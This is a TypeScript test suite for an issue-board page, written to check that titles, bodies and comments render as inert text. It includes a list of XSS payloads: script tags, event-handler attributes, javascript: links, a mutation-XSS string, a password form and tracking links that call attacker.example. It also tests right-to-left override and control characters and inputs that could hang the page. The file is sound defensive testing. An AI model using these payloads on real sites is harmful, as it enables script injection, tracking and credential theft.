// What someone writes into an issue is text. It runs nothing, fetches nothing, hides nothing, and cannot hang the page.
import { strict as assert } from "node:assert";
import { useBoardPage } from "./board-page.ts";

const SCRIPTS = [
  `<script>window.hacked = "script"</script>`,
  `<img src="https://attacker.example/x.png" onerror="window.hacked = 'image'">`,
  `![tracking](https://attacker.example/pixel.gif)`,
  `<svg onload="window.hacked='svg'"><animate onbegin="window.hacked='animate'"></svg>`,
  `<iframe src="https://attacker.example"></iframe><object data="x"></object><embed src="x">`,
  `<style>.detail { display: none }</style><link rel="stylesheet" href="https://attacker.example/a.css">`,
  `<div style="position:fixed;inset:0;background:red" class="dialog" id="root">over everything</div>`,
  `<form action="https://attacker.example"><input name="password"><button>Send</button></form>`,
  `<a href="javascript:window.hacked='link'">press</a> <a href="data:text/html,<script>1</script>">data</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">`,
  `<details open ontoggle="window.hacked='toggle'"><summary>more</summary>inside</details>`,
  `<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example">`,
  `<input type="image" src="https://attacker.example/i.png"><video src="https://attacker.example/v"></video>`,
].join("\n\n");

describe("hostile text on the Board", () => {
  const board = useBoardPage();

  const isUnharmed = async (): Promise<void> => {
    assert.equal(await board().page.evaluate(() => Reflect.get(window, "hacked") as unknown), undefined);
    const foreign = board().requested.filter((url) => !url.startsWith(board().server.url));
    assert.deepEqual(foreign, []);
    assert.deepEqual(await board().violations(), []);
  };

  it("is inert in a title", async () => {
    const a = await board().make("a", `<img src=x onerror="window.hacked='title'"><b>bold</b> {{1+1}}`, {
      labels: [`<i onclick=1>label</i>`],
    });
    await board().open();
    await board().card(a).getByText("<b>bold</b>").waitFor();
    await board().card(a).click();
    await board().page.locator(".detail-title").getByText("<b>bold</b>").waitFor();
    assert.equal(await board().page.locator("#root img, #root b, .label i").count(), 0);
    await isUnharmed();
  });

  it("is inert in a body and in a comment", async () => {
    const a = await board().make("a", "First", { body: SCRIPTS });
    const actor = { kind: "agent", name: "<script>1</script>" } as const;
    await board().server.act(actor, "comment", "comment-1", "create", { issue: a, body: SCRIPTS });
    await board().open();
    await board().card(a).click();
    await board().page.getByRole("article").locator("summary").waitFor();
    const forbidden =
      ".markdown :is(script, style, img, svg, iframe, object, embed, form, link, meta, base, video, math, [style], [class]:not(.task), [id], [onerror], [ontoggle])";
    assert.equal(await board().page.locator(forbidden).count(), 0);
    assert.equal(
      await board().page.locator('.markdown a[href^="javascript"], .markdown a[href^="data"]').count(),
      0,
    );
    await board().page.locator(".markdown").getByText("press").first().click();
    assert.deepEqual(await board().hostRequests(), []);
    assert.ok(await board().page.locator(".detail-title").isVisible());
    await isUnharmed();
  });

  it("shows control and direction characters instead of obeying them", async () => {
    const a = await board().make("a", "abc\u202Egnp.exe\u0007 \u200Bend", { body: "x\u202Ey\u0000z" });
    await board().open();
    assert.equal(
      await board().card(a).locator(".card-title").textContent(),
      "abc⟨U+202E⟩gnp.exe␇ ⟨U+200B⟩end",
    );
    await board().card(a).click();
    await board().page.locator(".detail-body").getByText("x⟨U+202E⟩y").waitFor();
    const isolated = board().card(a).locator(".card-title bdi");
    assert.equal(await isolated.evaluate((element) => getComputedStyle(element).unicodeBidi), "isolate");
  });

  it("wraps what has no spaces, and keeps a title to its card", async () => {
    const a = await board().make("a", "W".repeat(500), { body: "W".repeat(2_000) });
    await board().open();
    const card = await board().card(a).boundingBox();
    assert.equal(card?.height, 91);
    await board().card(a).click();
    const overflow = await board()
      .page.locator(".detail-scroll")
      .evaluate((element) => element.scrollWidth - element.clientWidth);
    assert.equal(overflow, 0);
  });

  it("shows the beginning of a huge text at once, and all of it on request", async () => {
    const line = "- [ ] **all** work and `no` play <b>makes</b> a dull text\n";
    const a = await board().make("a", "First", { body: line.repeat(3_000).slice(0, 199_000) });
    await board().open();
    await board().card(a).click();
    const all = board().page.getByRole("button", { name: /Show all/ });
    await all.waitFor();
    const count = async (): Promise<number> => board().page.locator(".detail-body li").count();
    assert.ok((await count()) < 500);
    await all.click();
    await board().page.locator(".detail-body li").nth(2_900).waitFor({ state: "attached" });
  });

  it("is not hung by deep nesting", async () => {
    const a = await board().make("a", "First", {
      body: `${">".repeat(5_000)} deep\n\n${"[".repeat(5_000)}${"*a ".repeat(5_000)}`,
    });
    await board().open();
    await board().card(a).click();
    await board().page.locator(".detail-title").getByText("First").waitFor();
    await board().page.getByRole("button", { name: "Close issue" }).click();
    await board().untilFocused(a);
  });
});
